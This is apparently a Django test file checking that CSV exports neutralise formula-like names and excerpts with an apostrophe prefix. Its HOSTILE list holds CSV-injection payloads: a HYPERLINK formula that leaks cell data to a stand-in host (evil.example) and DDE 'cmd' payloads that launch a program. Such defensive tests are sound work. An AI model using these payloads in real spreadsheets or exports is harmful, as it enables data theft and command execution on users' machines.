"""CSV exports open in spreadsheets: a name or an excerpt that starts like a formula is shown, never run.

The hostile text arrives the way a real one would: display names and post
excerpts from a sync, through the ingest service.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from relationships.platforms import records as r
from relationships.services import export
from relationships.services.scoring import rapport
from tests.rapport.stories import Story, at

pytestmark = pytest.mark.django_db

# What a spreadsheet runs, one per character that starts a formula: = + - @ tab, carriage return.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_story(alice, make_source):
    """One person per hostile text, named by it, who sent alice a reply whose excerpt is that text."""
    story = Story(alice, make_source(alice, platform=r.MASTODON))
    for i, text in enumerate(HOSTILE):
        name = f"p{i}"
        story.pending.append(r.IdentityRecord(platform=r.MASTODON, external_id=story.key(name),
                                              handle=f"{name}@fedi.example", display_name=text))
        story.pending.append(r.InteractionRecord(
            platform=r.MASTODON, external_id=f"https://fedi.example/@{name}/1", identity_id=story.key(name),
            kind=r.REPLY, direction=r.INBOUND, occurred_at=at(i + 1), excerpt=text,
        ))
    story.save()
    rapport.recompute(alice)
    return story


def _csv(client, what: str) -> list[dict]:
    response = client.get(reverse("settings_export"), {"what": what, "format": "csv"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_people_and_interactions_csv_show_formula_like_text_as_text(alice_client, hostile_story):
    names = sorted(row["name"] for row in _csv(alice_client, "people"))
    excerpts = sorted(row["excerpt"] for row in _csv(alice_client, "interactions"))
    # Every text is there, whole, behind one apostrophe: what a spreadsheet reads as "this is text";
    # and the carriage return stayed inside its cell instead of starting a row.
    assert names == excerpts == sorted("'" + text for text in HOSTILE)


def test_the_json_exports_keep_the_text_as_stored(alice_client, hostile_story):
    response = alice_client.get(reverse("settings_export"), {"what": "people", "format": "json"})
    assert sorted(p["name"] for p in json.loads(b"".join(response.streaming_content))) == sorted(HOSTILE)


def test_numbers_and_ordinary_text_are_left_as_they_are():
    row = [42, -3, 0.5, "-0.50", "+7", "2026-06-15T12:00:00Z", "Ana", "mastodon:ana@fedi.example", "", "a=b"]
    assert [export.spreadsheet_safe(cell) for cell in row] == row
    assert export.spreadsheet_safe("-") == "'-" and export.spreadsheet_safe("-1-1") == "'-1-1"
